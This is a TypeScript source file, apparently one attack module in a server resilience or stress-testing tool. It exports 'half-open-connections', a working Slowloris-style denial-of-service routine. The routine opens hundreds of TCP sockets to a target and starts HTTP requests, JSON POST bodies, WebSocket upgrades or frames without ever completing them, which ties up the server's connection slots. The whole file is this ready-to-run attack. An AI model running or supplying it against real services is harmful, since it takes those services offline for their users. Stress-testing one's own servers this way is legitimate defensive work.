import { connect, type Socket } from 'node:net'
import type { Attack } from './attack.ts'
import { pause } from './client/pause.ts'

/** Connections that are kept at once: more than the default limit of one address. */
const MOST = 700
const EVERY_MS = 2

const UPGRADE = `GET /x/y?sessionId=z HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ZHVuZ2VvbiBkaWNlISEhIQ==\r\n\r\n`

/** How a connection begins that never goes on. */
const BEGINNINGS = [
  '',
  'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ',
  'POST /api/v1/guest HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 99\r\n\r\n{',
  UPGRADE,
  `${UPGRADE}\u0082`,
]

/** Keeps hundreds of connections that begin a request, an upgrade or a frame, and never end it. */
export const halfOpenConnections: Attack = {
  name: 'half-open-connections',
  run: async ({ url, from }, signal) => {
    const { hostname, port } = new URL(url)
    const open = new Set<Socket>()
    const tally = { connections: 0, cut: 0 }
    while (!signal.aborted) {
      const socket = connect({ host: hostname, port: Number(port), localAddress: from })
      open.add(socket)
      socket.on('error', () => undefined).resume()
      socket.on('close', () => {
        if (open.delete(socket)) tally.cut += 1
      })
      socket.write(BEGINNINGS[tally.connections % BEGINNINGS.length] ?? '')
      tally.connections += 1
      const [oldest] = open
      if (open.size > MOST && oldest !== undefined && open.delete(oldest)) oldest.destroy()
      await pause(EVERY_MS, signal)
    }
    for (const socket of open) socket.destroy()
    return tally
  },
}
